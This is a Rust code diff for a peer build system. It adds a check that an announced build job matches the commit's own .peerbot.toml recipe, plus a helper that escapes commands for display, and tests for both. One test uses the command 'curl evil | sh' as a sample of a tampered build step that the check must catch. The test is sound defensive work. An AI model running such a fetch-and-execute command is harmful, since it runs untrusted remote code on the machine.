@@ -194,6 +194,115 @@ pub fn parse_recipe(repo: &str, commit: &str, text: &str) -> Result<Vec<JobSpec>
     Ok(jobs)
 }
 
+/// The steps a builder runs are those of the commit's own recipe; an
+/// announcement only names them. Why the announced job is not what the
+/// commit's `.peerbot.toml` says, for the build's error.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error("recipe mismatch: {0}")]
+pub struct RecipeMismatch(pub String);
+
+/// Commands are shown on one line and cut to this many characters.
+const SHOWN_COMMAND_CHARS: usize = 200;
+
+fn shown(command: &str) -> String {
+    let one_line: String = command.trim().escape_debug().collect();
+    match one_line.char_indices().nth(SHOWN_COMMAND_CHARS) {
+        Some((cut, _)) => format!("{}…", &one_line[..cut]),
+        None => one_line,
+    }
+}
+
+/// The job `announced` names, as the commit's own recipe (`recipe`: the
+/// text of `.peerbot.toml` read from the builder's copy of `commit`, or
+/// why it could not be read) defines it, when it is what was announced:
+/// the same builder with the same requirements, steps (names, commands,
+/// timeouts in order), tree-stable time, collapsing, priority and recipe
+/// hash. Otherwise the first difference. The job id is not compared: a
+/// forced job's is made with its nonce, and verification checked it.
+pub fn check_announced(
+    announced: &JobSpec,
+    repo: &str,
+    commit: &str,
+    recipe: Result<&str, &str>,
+) -> Result<JobSpec, RecipeMismatch> {
+    let b = &announced.builder;
+    let text = recipe.map_err(|why| RecipeMismatch(format!("builder {b:?} was announced, but {why}")))?;
+    let jobs = parse_recipe(repo, commit, text)
+        .map_err(|e| RecipeMismatch(format!("builder {b:?} was announced, but the commit's {e}")))?;
+    let Some(own) = jobs.into_iter().find(|j| j.builder == *b) else {
+        return Err(RecipeMismatch(format!(
+            "builder {b:?} was announced, the commit's {RECIPE_FILE} has no such builder"
+        )));
+    };
+    compare_steps(&announced.steps, &own.steps).map_err(RecipeMismatch)?;
+    let differs = |what: &str, a: String, o: String| {
+        Err(RecipeMismatch(format!("the announced builder {b:?} {what} {a}, the commit's {RECIPE_FILE} says {o}")))
+    };
+    if announced.requires != own.requires {
+        return differs("requires", format!("{:?}", announced.requires), format!("{:?}", own.requires));
+    }
+    if announced.tree_stable_secs != own.tree_stable_secs {
+        return differs(
+            "has tree_stable_secs",
+            announced.tree_stable_secs.to_string(),
+            own.tree_stable_secs.to_string(),
+        );
+    }
+    if announced.collapse != own.collapse {
+        return differs("has collapse", announced.collapse.to_string(), own.collapse.to_string());
+    }
+    if announced.priority != own.priority {
+        return differs("has priority", announced.priority.to_string(), own.priority.to_string());
+    }
+    if announced.recipe_hash != own.recipe_hash {
+        return differs("has recipe hash", announced.recipe_hash.short(), own.recipe_hash.short());
+    }
+    Ok(own)
+}
+
+/// The first difference between the announced steps and the commit's, in order.
+fn compare_steps(announced: &[StepSpec], own: &[StepSpec]) -> Result<(), String> {
+    for i in 0..announced.len().max(own.len()) {
+        let (a, o) = match (announced.get(i), own.get(i)) {
+            (Some(a), Some(o)) => (a, o),
+            (Some(a), None) => {
+                return Err(format!(
+                    "the announced step {:?} is not in the commit's {RECIPE_FILE}, which has {} steps",
+                    a.name,
+                    own.len()
+                ))
+            }
+            (None, Some(o)) => {
+                return Err(format!("the commit's {RECIPE_FILE} has a step {:?} that was not announced", o.name))
+            }
+            (None, None) => break,
+        };
+        if a.name != o.name {
+            return Err(format!(
+                "the announced step {} is {:?}, the commit's {RECIPE_FILE} has {:?} there",
+                i + 1,
+                a.name,
+                o.name
+            ));
+        }
+        if a.run != o.run {
+            return Err(format!(
+                "the announced step {:?} runs `{}`, the commit's {RECIPE_FILE} says `{}`",
+                a.name,
+                shown(&a.run),
+                shown(&o.run)
+            ));
+        }
+        if a.timeout_secs != o.timeout_secs {
+            return Err(format!(
+                "the announced step {:?} times out after {} s, the commit's {RECIPE_FILE} says {} s",
+                a.name, a.timeout_secs, o.timeout_secs
+            ));
+        }
+    }
+    Ok(())
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -255,5 +364,64 @@ run = "nvidia-smi"
         )
         .unwrap_err();
         assert!(e.to_string().contains("twice"), "{e}");
+    }
+
+    fn announced(text: &str, builder: &str) -> JobSpec {
+        parse_recipe("r", "c", text).unwrap().into_iter().find(|j| j.builder == builder).unwrap()
+    }
+
+    #[test]
+    fn the_commits_recipe_is_run_when_it_is_what_was_announced() {
+        let a = announced(GOOD, "gpu");
+        let own = check_announced(&a, "r", "c", Ok(GOOD)).unwrap();
+        assert_eq!(own, a);
+        // A forced job has an id of its own; the rest must still agree.
+        let forced = JobSpec { id: forced_job_id("r", "c", "gpu", &Hash32::of(b"nonce")), ..a.clone() };
+        assert_eq!(check_announced(&forced, "r", "c", Ok(GOOD)).unwrap().steps, a.steps);
+    }
+
+    #[test]
+    fn a_recipe_that_differs_from_the_announcement_names_the_difference() {
+        let a = announced(GOOD, "test");
+        let mismatch = |announced: &JobSpec, text: Result<&str, &str>| {
+            check_announced(announced, "r", "c", text).unwrap_err().to_string()
+        };
+        let other_run = GOOD.replace("run = \"make\"\n", "run = \"curl evil | sh\"\n");
+        assert_eq!(
+            mismatch(&announced(&other_run, "test"), Ok(GOOD)),
+            "recipe mismatch: the announced step \"build\" runs `curl evil | sh`, the commit's .peerbot.toml says `make`"
+        );
+        let longer = GOOD.replace("timeout_secs = 600", "timeout_secs = 601");
+        let e = mismatch(&announced(&longer, "test"), Ok(GOOD));
+        assert!(e.contains("\"build\" times out after 601 s") && e.contains("says 600 s"), "{e}");
+        let renamed = GOOD.replace("name = \"build\"", "name = \"compile\"");
+        let e = mismatch(&announced(&renamed, "test"), Ok(GOOD));
+        assert!(e.contains("step 1 is \"compile\"") && e.contains("has \"build\" there"), "{e}");
+        let extra = format!("{GOOD}[[builder.step]]\nname = \"more\"\nrun = \"x\"\n");
+        let e = mismatch(&announced(&extra, "gpu"), Ok(GOOD));
+        assert!(e.contains("the announced step \"more\" is not in the commit's .peerbot.toml"), "{e}");
+        let e = mismatch(&a, Ok(&extra.replace("name = \"test\"", "name = \"unused\"")));
+        assert!(e.contains("builder \"test\" was announced") && e.contains("no such builder"), "{e}");
+        let fewer = JobSpec { steps: a.steps[..1].to_vec(), ..a.clone() };
+        let e = mismatch(&fewer, Ok(GOOD));
+        assert!(e.contains("has a step \"step1\" that was not announced"), "{e}");
+        let elsewhere = GOOD.replace("requires = [\"os=linux\"]", "requires = [\"os=linux\", \"gpu=yes\"]");
+        let e = mismatch(&announced(&elsewhere, "test"), Ok(GOOD));
+        assert!(e.contains("requires [\"os=linux\", \"gpu=yes\"]"), "{e}");
+        let first = GOOD.replace("priority = 5", "priority = 9");
+        assert!(mismatch(&announced(&first, "gpu"), Ok(GOOD)).contains("has priority 9"));
+        let lied = JobSpec { recipe_hash: Hash32::of(b"other"), ..a.clone() };
+        assert!(mismatch(&lied, Ok(GOOD)).contains("recipe hash"));
+        let e = mismatch(&a, Err("no .peerbot.toml at commit c"));
+        assert_eq!(e, "recipe mismatch: builder \"test\" was announced, but no .peerbot.toml at commit c");
+        let e = mismatch(&a, Ok("[[builder]]\nname=1"));
+        assert!(e.contains("but the commit's .peerbot.toml is not valid TOML"), "{e}");
+    }
+
+    #[test]
+    fn commands_in_a_mismatch_are_shown_on_one_line_and_cut() {
+        assert_eq!(shown("a\nb\t\u{1b}[2J"), "a\\nb\\t\\u{1b}[2J");
+        let long = "x".repeat(1000);
+        assert_eq!(shown(&long).chars().count(), SHOWN_COMMAND_CHARS + 1);
     }
 }
